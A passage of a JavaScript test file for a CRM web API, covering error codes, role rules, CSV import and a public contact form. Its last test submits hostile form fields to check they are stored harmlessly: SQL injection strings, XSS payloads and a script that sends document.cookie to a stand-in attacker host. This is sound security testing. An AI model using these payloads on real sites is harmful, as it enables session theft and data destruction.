// CRM over HTTP against a real `keel serve`, on both engines: every error code the CRM routes
// declare (x-error-codes in the OpenAPI document) is triggered with its status and changes
// nothing; the public web form (rate limit, honeypot, size, encoding, hostile text); record
// rules for sales, manager, viewer and another company; a lead walked to a won opportunity
// with a quote, seen on the kanban and in the forecast, and `keel check` green afterwards;
// Idempotency-Key on POST /leads.
import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { engines, freshDatabase, createUser, Server, KEEL_BIN, idempotencyKey } from './harness.mjs';

const CRM = '/api/v1/crm';
const MISSING = 987654321;

// Codes a CRM route declares that no request can make it answer, each with the reason. The
// coverage check fails when one of these is seen, so the list cannot go stale.
const UNREACHABLE = {
  // The JSON reader refuses an empty name (field_empty), one over 300 bytes (field_too_long)
  // and invalid UTF-8 (json_malformed) before the service's own name check can run.
  stage_name_invalid: 'the JSON reader refuses every bad name first (input_invalid)',
  team_name_invalid: 'the JSON reader refuses every bad name first (input_invalid)',
  campaign_name_invalid: 'the JSON reader refuses every bad name first (input_invalid)',
  form_name_invalid: 'the JSON reader refuses every bad name first (input_invalid)',
  // The handlers check these counts and report them as field codes of input_invalid, so the
  // services' own checks never answer.
  team_members_too_many: 'only a field code of input_invalid (members over 200)',
  scoring_rules_too_many: 'only a field code of input_invalid (rules over 200)',
  quote_lines_too_many: 'only a field code of input_invalid (lines over 500)',
  field_required: 'only a field code of input_invalid, never a top-level code',
};

// Codes the dispatcher answers on any route before a handler runs; a route need not list them.
const GENERIC = new Set(['permission_denied', 'content_type_unsupported', 'json_malformed',
  'body_too_large', 'idempotency_key_invalid', 'idempotency_key_reused', 'unauthenticated']);

const today = () => new Date().toISOString().slice(0, 10);
const month = (offset = 0) => {
  const d = new Date();
  d.setUTCDate(1);
  d.setUTCMonth(d.getUTCMonth() + offset);
  return d.toISOString().slice(0, 7);
};
const dayAfter = (days) => new Date(Date.now() + days * 86400000).toISOString().slice(0, 10);
// Decimal strings of two places ⇄ integer cents, for exact sums.
const cents = (text) => {
  const [whole, fraction = ''] = text.split('.');
  return BigInt(whole) * 100n + BigInt((fraction + '00').slice(0, 2));
};
const decimal = (value) => `${value / 100n}.${String(value % 100n).padStart(2, '0')}`;

for (const engine of engines()) {
  describe(`crm API on ${engine}`, () => {
    let server;
    let db;
    const as = {};       // sessions: adminA, sales1, sales2, manager, viewer, adminB
    const ids = {};      // what the tests share
    const seen = new Set();
    const seenOn = new Map();  // "METHOD /template" → codes seen
    const undeclared = [];      // "METHOD /template code" answered but not declared
    let routes = [];            // [{ method, template, pattern, codes }] of /api/v1/crm

    const api = (method, path, options = {}) => server.call(method, path, options);
    const headersFor = (method, extra = {}) =>
      method === 'GET' ? extra : { 'idempotency-key': idempotencyKey(), ...extra };

    // A successful call as `who`; fails the test on any other status.
    async function ok(who, method, path, body, status = 200) {
      const r = await api(method, path, { token: who.token, body, headers: headersFor(method) });
      assert.equal(r.status, status, `${method} ${path}: ${r.status} ${r.text.slice(0, 400)}`);
      return r.json;
    }
    const created = (who, path, body) => ok(who, 'POST', path, body, 201);

    function routeOf(method, path) {
      const bare = path.split('?')[0];
      return routes.find((r) => r.method === method && r.pattern.test(bare));
    }

    // Everything a refused command could have touched, as each company's admin sees it: the
    // newest audit entry (every CRM change is audited in its transaction), and the rows
    // themselves: company A's CRM lists, partners and quotes in full, company B's leads and
    // opportunities (B is mostly the outsider here).
    async function snapshot() {
      const out = {};
      for (const who of [as.adminA, as.adminB]) {
        const get = async (path) => {
          const r = await api('GET', path, { token: who.token });
          assert.equal(r.status, 200, `${path}: ${r.text.slice(0, 200)}`);
          return r.json;
        };
        const state = {
          audit: (await get('/api/v1/audit?limit=1')).items[0]?.id ?? null,
          leads: await get(`${CRM}/leads?limit=500`),
          opportunities: await get(`${CRM}/opportunities?limit=500`),
        };
        if (who === as.adminA) {
          Object.assign(state, {
            stages: await get(`${CRM}/stages`),
            teams: await get(`${CRM}/teams`),
            campaigns: await get(`${CRM}/campaigns`),
            forms: await get(`${CRM}/forms`),
            rules: await get(`${CRM}/scoring-rules`),
            quotas: await get(`${CRM}/quotas`),
            partners: (await get('/api/v1/partners/stats')).total,
            quotes: await get('/api/v1/sales/quotes?limit=500'),
          });
        }
        out[who.user.email] = state;
      }
      return out;
    }

    // A request that must be refused with `status` and `code` (and `field` with `fieldCode`
    // among its fields), leaving every company's data as it was.
    async function refuse(who, method, path, body, status, code, { field, fieldCode, headers = {} } = {}) {
      const before = await snapshot();
      const r = await api(method, path, { token: who?.token, body, headers: headersFor(method, headers) });
      const problem = r.json;
      assert.equal(r.status, status, `${method} ${path} → ${r.status} ${r.text.slice(0, 400)}`);
      assert.equal(r.headers.get('content-type'), 'application/problem+json', `${method} ${path}`);
      assert.equal(problem.code, code, `${method} ${path}: ${r.text.slice(0, 400)}`);
      assert.equal(typeof problem.kind, 'string');
      assert.equal(typeof problem.message, 'string');
      assert.ok(Array.isArray(problem.fields), 'fields[] is always there');
      if (field) {
        const hit = problem.fields.find((f) => f.field === field);
        assert.ok(hit, `field ${field} in ${JSON.stringify(problem.fields)}`);
        if (fieldCode) assert.equal(hit.code, fieldCode, JSON.stringify(problem.fields));
      }
      seen.add(code);
      const route = routeOf(method, path);
      if (route) {
        const key = `${method} ${route.template}`;
        if (!seenOn.has(key)) seenOn.set(key, new Set());
        seenOn.get(key).add(code);
        if (!route.codes.includes(code) && !GENERIC.has(code)) undeclared.push(`${key} ${code}`);
      }
      assert.deepEqual(await snapshot(), before, `${method} ${path} (${code}) changed data`);
      return r;
    }

    async function submitForm(token, body, contentType = 'application/x-www-form-urlencoded') {
      const response = await fetch(`${server.base}${CRM}/forms/${token}/submit`, {
        method: 'POST', headers: { 'content-type': contentType }, body,
      });
      const text = await response.text();
      return { status: response.status, headers: response.headers, text, json: text && /json/.test(response.headers.get('content-type') ?? '') ? JSON.parse(text) : null };
    }

    const leadCount = async () => (await ok(as.adminA, 'GET', `${CRM}/leads?limit=500`)).items.length;
    const pipelineOf = (who, query = '') => ok(who, 'GET', `${CRM}/pipeline${query}`);

    before(async () => {
      db = freshDatabase(engine);
      const users = [
        ['adminA', 'admin@a.example', 'admin', 'Company A'],
        ['sales1', 'sales1@a.example', 'sales', 'Company A'],
        ['sales2', 'sales2@a.example', 'sales', 'Company A'],
        ['manager', 'manager@a.example', 'manager', 'Company A'],
        ['viewer', 'viewer@a.example', 'viewer', 'Company A'],
        ['adminB', 'admin@b.example', 'admin', 'Company B'],
      ];
      for (const [, email, role, company] of users) {
        createUser(db.url, { email, password: `password-${role}-1`, role, company, name: email.split('@')[0] });
      }
      server = await Server.start(db.url);
      for (const [key, email, role] of users) as[key] = await server.login(email, `password-${role}-1`);
      for (const key of Object.keys(as)) ids[key] = as[key].user.id;

      const doc = (await api('GET', '/api/v1/openapi.json')).json;
      for (const [template, operations] of Object.entries(doc.paths)) {
        if (!template.startsWith(CRM)) continue;
        for (const [method, op] of Object.entries(operations)) {
          const pattern = new RegExp(`^${template.replace(/\{[^}]+\}/g, '[^/]+')}$`);
          routes.push({ method: method.toUpperCase(), template, pattern, codes: op['x-error-codes'] ?? [] });
        }
      }
      assert.ok(routes.length > 30, `${routes.length} CRM routes in the OpenAPI document`);

      // Stages, a team led by the manager with sales1 in it, a campaign, partners, a product.
      ids.stages = [];
      for (const [name, probability, committed] of [['Qualification', 10, false], ['Proposal', 50, false], ['Negotiation', 80, true]]) {
        ids.stages.push((await created(as.adminA, `${CRM}/stages`, { name, probability, committed })).id);
      }
      ids.stageB = (await created(as.adminB, `${CRM}/stages`, { name: 'B only', probability: 20 })).id;
      ids.team = (await created(as.adminA, `${CRM}/teams`, { name: 'Team North', leader_id: ids.manager, members: [ids.sales1] })).id;
      ids.teamB = (await created(as.adminB, `${CRM}/teams`, { name: 'Team B', leader_id: ids.adminB })).id;
      ids.campaign = (await created(as.adminA, `${CRM}/campaigns`, { name: 'Spring fair', code: 'SPRING-26', channel: 'event', budget: '1500.00' })).id;
      const party = (name, who = as.adminA) => created(who, '/api/v1/partners', { kind: 'organization', name, roles: ['customer'] });
      ids.partner = (await party('Acme Trading')).id;
      ids.otherPartner = (await party('Borealis Foods')).id;
      ids.partnerB = (await party('Company B customer', as.adminB)).id;
      ids.product = (await created(as.adminA, '/api/v1/inventory/products', {
        type: 'service', sku: 'CRM-SVC-1', names: { en: 'Onboarding day' }, list_price: '250.00',
      })).id;
    });

    after(async () => {
      await server?.stop();
      db?.drop();
    });

    it('refuses bad settings: stages, teams, campaigns, forms, scoring rules, quotas', async () => {
      const A = as.adminA;
      await refuse(A, 'POST', `${CRM}/stages`, { name: 'No probability' }, 422, 'stage_probability_invalid');
      await refuse(A, 'POST', `${CRM}/stages`, { name: 'Too sure', probability: 150 }, 422, 'stage_probability_invalid');
      await refuse(A, 'POST', `${CRM}/stages`, { probability: 10 }, 422, 'input_invalid', { field: 'name', fieldCode: 'field_required' });
      await refuse(A, 'POST', `${CRM}/stages`, { name: '', probability: 10 }, 422, 'input_invalid', { field: 'name', fieldCode: 'field_empty' });
      await refuse(as.sales1, 'POST', `${CRM}/stages`, { name: 'Mine', probability: 10 }, 403, 'permission_denied');
      const stage = (await ok(A, 'GET', `${CRM}/stages`)).items[0];
      await refuse(A, 'PUT', `${CRM}/stages/${stage.id}`, { name: 'Renamed', probability: 10, version: stage.version + 1 }, 409, 'version_conflict');
      await refuse(A, 'PUT', `${CRM}/stages/${stage.id}`, { name: 'Renamed', probability: 101, version: stage.version }, 422, 'stage_probability_invalid');
      await refuse(A, 'PUT', `${CRM}/stages/${stage.id}`, { name: 'Renamed', probability: 10 }, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'PUT', `${CRM}/stages/${MISSING}`, { name: 'Renamed', probability: 10, version: 1 }, 404, 'stage_not_found');
      await refuse(A, 'PUT', `${CRM}/stages/${ids.stageB}`, { name: 'Hijacked', probability: 10, version: 1 }, 404, 'stage_not_found');
      // A company holds at most 30 stages: company B fills up, the 31st is refused.
      for (let n = (await ok(as.adminB, 'GET', `${CRM}/stages`)).items.length; n < 30; n++) {
        await created(as.adminB, `${CRM}/stages`, { name: `B stage ${n}`, probability: n });
      }
      await refuse(as.adminB, 'POST', `${CRM}/stages`, { name: 'One too many', probability: 5 }, 422, 'stages_too_many');

      await refuse(A, 'POST', `${CRM}/teams`, { name: 'Team North', leader_id: ids.manager }, 409, 'team_name_taken');
      await refuse(A, 'POST', `${CRM}/teams`, { name: 'Ghosts', leader_id: MISSING }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/teams`, { name: 'Raiders', leader_id: ids.manager, members: [ids.adminB] }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/teams`, { name: 'Crowd', leader_id: ids.manager, members: Array.from({ length: 201 }, (_, i) => i + 1) }, 422, 'input_invalid', { field: 'members', fieldCode: 'team_members_too_many' });
      await refuse(A, 'POST', `${CRM}/teams`, { name: 'Leaderless' }, 422, 'input_invalid', { field: 'leader_id', fieldCode: 'field_required' });

      const campaign = { name: 'Autumn', code: 'AUTUMN-26', channel: 'email' };
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, code: 'has spaces' }, 422, 'campaign_code_invalid');
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, channel: 'tv' }, 422, 'campaign_channel_invalid');
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, starts_on: '2026-05-01', ends_on: '2026-04-30' }, 422, 'campaign_dates_invalid');
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, budget: '-1.00' }, 422, 'amount_negative');
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, budget: '1,000' }, 422, 'input_invalid', { field: 'budget', fieldCode: 'amount_invalid' });
      await refuse(A, 'POST', `${CRM}/campaigns`, { ...campaign, code: 'SPRING-26' }, 409, 'campaign_code_taken');

      const form = { name: 'Contact us' };
      await refuse(A, 'POST', `${CRM}/forms`, { ...form, submissions_per_hour: 0 }, 422, 'form_rate_invalid');
      await refuse(A, 'POST', `${CRM}/forms`, { ...form, submissions_per_hour: 10001 }, 422, 'form_rate_invalid');
      await refuse(A, 'POST', `${CRM}/forms`, { ...form, owner_id: MISSING }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/forms`, { ...form, team_id: ids.teamB }, 422, 'team_not_found');
      await refuse(A, 'POST', `${CRM}/forms`, { ...form, campaign_id: MISSING }, 422, 'campaign_not_found');
      await refuse(A, 'POST', `${CRM}/forms`, {}, 422, 'input_invalid', { field: 'name' });

      await refuse(A, 'PUT', `${CRM}/scoring-rules`, { rules: [{ kind: 'astrology', points: 5 }] }, 422, 'input_invalid', { field: 'rules/0', fieldCode: 'scoring_rule_invalid' });
      await refuse(A, 'PUT', `${CRM}/scoring-rules`, { rules: [{ kind: 'field', field: 'email', points: 1001 }] }, 422, 'input_invalid');
      await refuse(A, 'PUT', `${CRM}/scoring-rules`, { rules: Array.from({ length: 201 }, () => ({ kind: 'field', field: 'email', points: 1 })) }, 422, 'input_invalid', { field: 'rules', fieldCode: 'scoring_rules_too_many' });

      await refuse(A, 'PUT', `${CRM}/quotas`, { user_id: ids.sales1, month: '2026-13', amount: '100.00' }, 422, 'forecast_month_invalid');
      await refuse(A, 'PUT', `${CRM}/quotas`, { user_id: ids.sales1, month: month(), amount: '-100.00' }, 422, 'amount_negative');
      await refuse(A, 'PUT', `${CRM}/quotas`, { user_id: ids.adminB, month: month(), amount: '100.00' }, 422, 'user_not_found');
      await refuse(A, 'PUT', `${CRM}/quotas`, { user_id: ids.sales1, month: month(), amount: 'lots' }, 422, 'input_invalid', { field: 'amount' });
      await refuse(A, 'GET', `${CRM}/quotas?month=May`, undefined, 422, 'forecast_month_invalid');
    });

    it('scores leads by the rules and lists duplicates on create and read', async () => {
      const A = as.adminA;
      const rules = await ok(A, 'PUT', `${CRM}/scoring-rules`, { rules: [
        { kind: 'field', field: 'email', points: 10 },
        { kind: 'company_size', value: '50', points: 20 },
        { kind: 'activity', value: 'call', points: 5 },
      ] });
      assert.equal(rules.rules.length, 3);
      const first = await created(A, `${CRM}/leads`, { contact_name: '  Dana Duplicate ', email: 'Dana@Dup.Example', employees: 60 });
      assert.equal(first.contact_name, 'Dana Duplicate');
      assert.equal(first.email, 'dana@dup.example');
      assert.equal(first.score, 30);
      assert.deepEqual(first.duplicates, []);
      const second = await created(A, `${CRM}/leads`, { contact_name: 'Dana D.', email: 'dana@dup.example', company_name: 'Acme Trading' });
      assert.ok(second.duplicates.some((d) => d.kind === 'lead' && d.id === first.id && d.match === 'email'), JSON.stringify(second.duplicates));
      assert.ok(second.duplicates.some((d) => d.kind === 'partner' && d.id === ids.partner), JSON.stringify(second.duplicates));
      const read = await ok(A, 'GET', `${CRM}/leads/${first.id}`);
      assert.ok(read.duplicates.some((d) => d.kind === 'lead' && d.id === second.id));
      await created(A, `${CRM}/activities`, { kind: 'call', subject: 'Intro call', lead_id: first.id });
      assert.equal((await ok(A, 'GET', `${CRM}/leads/${first.id}`)).score, 35, 'a logged call scores the lead again');
      ids.dupLead = first;
    });

    it('refuses bad leads and bad lead commands', async () => {
      const A = as.adminA;
      const lead = { contact_name: 'Refused Person', email: 'refused@example.com' };
      await refuse(A, 'POST', `${CRM}/leads`, {}, 422, 'input_invalid', { field: 'contact_name', fieldCode: 'field_required' });
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, email: 'not-an-email' }, 422, 'input_invalid', { field: 'email', fieldCode: 'lead_email_invalid' });
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, phone: '12' }, 422, 'input_invalid', { field: 'phone', fieldCode: 'lead_phone_invalid' });
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, country: 'L1' }, 422, 'input_invalid', { field: 'country', fieldCode: 'lead_country_invalid' });
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, source: 'carrier-pigeon' }, 422, 'input_invalid', { field: 'source', fieldCode: 'lead_source_invalid' });
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, owner_id: MISSING }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, owner_id: ids.adminB }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, team_id: ids.teamB }, 422, 'team_not_found');
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, campaign_id: MISSING }, 422, 'campaign_not_found');
      await refuse(as.sales1, 'POST', `${CRM}/leads`, { ...lead, owner_id: ids.sales2 }, 403, 'permission_denied');
      await refuse(as.viewer, 'POST', `${CRM}/leads`, lead, 403, 'permission_denied');
      await refuse(A, 'POST', `${CRM}/leads`, 'contact_name=x', 400, 'content_type_unsupported', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(A, 'POST', `${CRM}/leads`, '{"contact_name": ', 400, 'json_malformed');

      await refuse(A, 'GET', `${CRM}/leads?state=hot`, undefined, 422, 'lead_state_invalid');
      await refuse(A, 'GET', `${CRM}/leads?q=${'q'.repeat(301)}`, undefined, 422, 'search_query_too_long');
      await refuse(A, 'GET', `${CRM}/leads?limit=ten`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/leads?limit=501`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/leads/${MISSING}`, undefined, 404, 'lead_not_found');
      await refuse(A, 'GET', `${CRM}/leads/abc`, undefined, 404, 'lead_not_found');

      const target = await created(A, `${CRM}/leads`, { contact_name: 'Quinn Target', email: 'quinn@target.example' });
      const path = `${CRM}/leads/${target.id}`;
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.', version: target.version + 1 }, 409, 'version_conflict');
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.' }, 422, 'input_invalid', { field: 'version', fieldCode: 'field_required' });
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.', owner_id: MISSING, version: target.version }, 422, 'user_not_found');
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.', team_id: MISSING, version: target.version }, 422, 'team_not_found');
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.', campaign_id: MISSING, version: target.version }, 422, 'campaign_not_found');
      await refuse(A, 'PUT', `${CRM}/leads/${MISSING}`, { contact_name: 'Nobody', version: 1 }, 404, 'lead_not_found');
      await refuse(as.viewer, 'PUT', path, { contact_name: 'Quinn T.', version: target.version }, 403, 'permission_denied');
      await refuse(A, 'POST', `${path}/qualify`, {}, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${path}/qualify`, { version: 99 }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/leads/${MISSING}/qualify`, { version: 1 }, 404, 'lead_not_found');
      const qualified = await ok(A, 'POST', `${path}/qualify`, { version: target.version });
      assert.equal(qualified.state, 'qualified');
      await refuse(A, 'POST', `${path}/qualify`, { version: qualified.version }, 409, 'lead_state_invalid');
      await refuse(A, 'POST', `${path}/disqualify`, { version: qualified.version, reason: '   ' }, 422, 'disqualify_reason_required');
      await refuse(A, 'POST', `${path}/disqualify`, { reason: 'spam' }, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${path}/disqualify`, { version: 1, reason: 'spam' }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/leads/${MISSING}/disqualify`, { version: 1, reason: 'spam' }, 404, 'lead_not_found');

      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version, partner_id: MISSING }, 422, 'partner_not_found');
      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version, partner_id: ids.partnerB }, 422, 'partner_not_found');
      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version, stage_id: ids.stageB }, 422, 'stage_not_found');
      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version, expected_revenue: '-5.00' }, 422, 'input_invalid', { field: 'expected_revenue', fieldCode: 'amount_negative' });
      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version, close_date: '2026-02-30' }, 422, 'input_invalid', { field: 'close_date', fieldCode: 'date_invalid' });
      await refuse(A, 'POST', `${path}/convert`, { version: qualified.version + 1 }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/leads/${MISSING}/convert`, { version: 1 }, 404, 'lead_not_found');
      await refuse(as.viewer, 'POST', `${path}/convert`, { version: qualified.version }, 403, 'permission_denied');

      // A lead whose owner has left (disabled) converts only after it is given to someone else.
      const leaver = await created(A, '/api/v1/auth/users', { email: 'leaver@a.example', name: 'Leaver', password: 'password-leaver-1', roles: ['sales'] });
      const leaverId = leaver.user?.id ?? leaver.id;
      const orphan = await created(A, `${CRM}/leads`, { contact_name: 'Orphan Lead', email: 'orphan@example.com', owner_id: leaverId });
      const current = await ok(A, 'GET', `/api/v1/auth/users/${leaverId}`);
      await ok(A, 'PATCH', `/api/v1/auth/users/${leaverId}`, { disabled: true, version: current.version });
      await refuse(A, 'POST', `${CRM}/leads/${orphan.id}/convert`, { version: orphan.version }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/leads`, { ...lead, owner_id: leaverId }, 422, 'user_not_found');

      const gone = await ok(A, 'POST', `${path}/disqualify`, { version: qualified.version, reason: 'no budget' });
      assert.equal(gone.state, 'disqualified');
      assert.equal(gone.disqualify_reason, 'no budget');
      await refuse(A, 'POST', `${path}/disqualify`, { version: gone.version, reason: 'again' }, 409, 'lead_state_invalid');
      await refuse(A, 'POST', `${path}/convert`, { version: gone.version }, 409, 'lead_state_invalid');
      await refuse(A, 'PUT', path, { contact_name: 'Quinn T.', version: gone.version }, 409, 'lead_state_invalid');
    });

    it('imports leads from CSV all or nothing', async () => {
      const A = as.adminA;
      const csv = () => ({ 'content-type': 'text/csv' });
      const path = (mode) => `${CRM}/leads/import?mode=${mode}`;
      const refuseCsv = (body, code, who = A, status = 422, mode = 'commit') =>
        refuse(who, 'POST', path(mode), body, status, code, { headers: csv() });
      await refuseCsv(Buffer.from([0x63, 0x6f, 0x6e, 0xff, 0x0a]), 'import_encoding_invalid');
      await refuseCsv('contact_name,email\n"Unclosed,a@b.example\n', 'import_csv_malformed');
      await refuseCsv('contact_name\n' + 'x\n'.repeat(100001), 'import_too_many_rows');
      await refuseCsv('', 'import_header_missing');
      await refuseCsv('email\nsomeone@example.com\n', 'import_header_missing');
      await refuseCsv('contact_name,colour\nAda,blue\n', 'import_column_unknown');
      const mixed = 'contact_name,email,campaign_code,employees\nGood Row,good@import.example,SPRING-26,12\n,bad-email,NOPE,many\n';
      await refuseCsv(mixed, 'import_rows_invalid');
      await refuseCsv(mixed, 'permission_denied', as.sales1, 403);
      const dry = await api('POST', path('dry_run'), { token: A.token, body: mixed, headers: { ...csv(), 'idempotency-key': idempotencyKey() } });
      assert.equal(dry.status, 200, dry.text);
      assert.equal(dry.json.rows, 2);
      assert.equal(dry.json.created, 0);
      for (const field of ['rows/2/contact_name', 'rows/2/campaign_code']) {
        assert.ok(dry.json.errors.some((e) => e.field === field || e.field.startsWith('rows/2/')), `${field} in ${JSON.stringify(dry.json.errors)}`);
      }
      const before = await leadCount();
      const good = await api('POST', path('commit'), {
        token: as.manager.token, body: 'contact_name,email,campaign_code\nImported One,one@import.example,SPRING-26\n"=Formula, Two",two@import.example,\n',
        headers: { ...csv(), 'idempotency-key': idempotencyKey() },
      });
      assert.equal(good.status, 200, good.text);
      assert.equal(good.json.created, 2);
      assert.equal(await leadCount(), before + 2);
    });

    it('takes the public web form: accepted, honeypot, rate limit, size, encoding, content type, unknown token', async () => {
      const form = await created(as.adminA, `${CRM}/forms`, { name: 'Website contact', submissions_per_hour: 5, team_id: ids.team, owner_id: ids.sales1 });
      assert.match(form.token, /^[A-Za-z0-9]{32}$/);
      const auditEntries = (await ok(as.adminA, 'GET', '/api/v1/audit?entity=crm.web_form')).items;
      assert.ok(!JSON.stringify(auditEntries).includes(form.token), 'the token stays out of the audit trail');
      const body = (fields) => new URLSearchParams(fields).toString();
      let leads = await leadCount();

      const accepted = await submitForm(form.token, body({ name: 'Fiona Form', email: 'fiona@form.example', message: 'Call me', utm_campaign: 'SPRING-26' }));
      assert.equal(accepted.status, 202, accepted.text);
      assert.equal(await leadCount(), ++leads);
      const lead = (await ok(as.adminA, 'GET', `${CRM}/leads?q=fiona@form`)).items[0];
      assert.equal(lead.source, 'web_form');
      assert.equal(lead.owner_id, ids.sales1);
      assert.equal(lead.team_id, ids.team);
      assert.equal(lead.campaign_id, ids.campaign);
      assert.equal(lead.form_id, form.id);
      const timeline = await ok(as.adminA, 'GET', `${CRM}/timeline?lead_id=${lead.id}`);
      assert.equal(timeline.items.length, 1);
      assert.equal(timeline.items[0].kind, 'web_form');
      assert.equal(timeline.items[0].body, 'Call me');

      const robot = await submitForm(form.token, body({ name: 'Robot', email: 'robot@spam.example', website_url: 'http://spam.example' }));
      assert.equal(robot.status, 202);
      assert.equal(robot.text, accepted.text, 'a robot gets the same answer as a person');
      assert.equal(await leadCount(), leads, 'the honeypot stores nothing');
      assert.equal((await ok(as.adminA, 'GET', `${CRM}/leads?q=robot@spam`)).items.length, 0);

      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, body({ name: 'Nobody' }), 422, 'input_invalid', { field: 'email', fieldCode: 'form_contact_missing', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, body({ email: 'nameless@form.example' }), 422, 'input_invalid', { field: 'contact_name', fieldCode: 'lead_name_invalid', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, 'name=Bad&email=bad%zz', 400, 'form_body_malformed', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, 'name=%C3%28&email=utf%40form.example', 400, 'form_body_malformed', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, body({ name: 'Big', email: 'big@form.example', message: 'x'.repeat(16 * 1024) }), 413, 'form_too_large', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, JSON.stringify({ name: 'Json', email: 'json@form.example' }), 400, 'content_type_unsupported');
      await refuse(null, 'POST', `${CRM}/forms/${randomBytes(16).toString('hex')}/submit`, body({ name: 'Lost', email: 'lost@form.example' }), 404, 'form_not_found', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      await refuse(null, 'POST', `${CRM}/forms/short/submit`, body({ name: 'Lost', email: 'lost@form.example' }), 404, 'form_not_found', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });

      // The person, the robot and the two submissions refused for their fields used 4 of 5 this
      // hour: refused submissions count too, so a robot sending nothing usable is slowed down.
      // (Bodies refused before they are read — size, encoding, type, token — are not counted.)
      const third = await submitForm(form.token, body({ name: 'Third Person', email: 'third@form.example' }));
      assert.equal(third.status, 202, third.text);
      assert.equal(await leadCount(), ++leads);
      const over = await submitForm(form.token, body({ name: 'Over Limit', email: 'over@form.example' }));
      assert.equal(over.status, 429, over.text);
      assert.equal(over.json.code, 'form_rate_limited');
      const retry = Number(over.headers.get('retry-after'));
      assert.ok(Number.isInteger(retry) && retry > 0 && retry <= 3600, `Retry-After ${over.headers.get('retry-after')}`);
      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, body({ name: 'Still Over', email: 'still@form.example' }), 429, 'form_rate_limited', { headers: { 'content-type': 'application/x-www-form-urlencoded' } });
      assert.equal(await leadCount(), leads);
    });

    it('stores hostile text from the form verbatim and changes nothing else', async () => {
      const form = await created(as.adminA, `${CRM}/forms`, { name: 'Hostile', submissions_per_hour: 100 });
      const hostile = {
        name: "Robert'); DROP TABLE crm_leads;-- <script>alert(1)</script>",
        company: '" OR 1=1 -- <img src=x onerror=alert(document.cookie)> شرکت',
        email: "o'hara+1=1--/*x*/@example.com",
        phone: '+1 (555) 010-9999',
        message: "'; DELETE FROM crm_opportunities; --\n<script>fetch('//evil.example?c='+document.cookie)</script>\n\\x00 %00 ${7*7} {{7*7}}",
        utm_campaign: "SPRING-26' OR '1'='1",
        "'; DROP TABLE crm_web_forms; --": 'ignored',
      };
      const before = await snapshot();
      const leads = await leadCount();
      const r = await submitForm(form.token, new URLSearchParams(hostile).toString());
      assert.equal(r.status, 202, r.text);
      assert.equal(await leadCount(), leads + 1);
      const found = (await ok(as.adminA, 'GET', `${CRM}/leads?limit=1`)).items[0];
      const lead = await ok(as.adminA, 'GET', `${CRM}/leads/${found.id}`);
      assert.equal(lead.contact_name, hostile.name);
      assert.equal(lead.company_name, hostile.company);
      assert.equal(lead.email, hostile.email);
      assert.equal(lead.phone, hostile.phone);
      assert.equal(lead.message, hostile.message);
      assert.equal(lead.campaign_id, null, 'an unknown utm_campaign is ignored');
      const activity = (await ok(as.adminA, 'GET', `${CRM}/timeline?lead_id=${lead.id}`)).items[0];
      assert.equal(activity.body, hostile.message);
      // Everything else is as it was: only one lead and its activity were added.
      const after = await snapshot();
      const a = 'admin@a.example';
      assert.deepEqual(after[a].leads.items.slice(1), before[a].leads.items);
      for (const key of ['opportunities', 'stages', 'teams', 'campaigns', 'forms', 'rules', 'quotas', 'partners', 'quotes']) {
        assert.deepEqual(after[a][key], before[a][key], key);
      }
      assert.deepEqual(after['admin@b.example'], before['admin@b.example']);
      // The phone is the one field with a syntax; SQL there is refused, not stored.
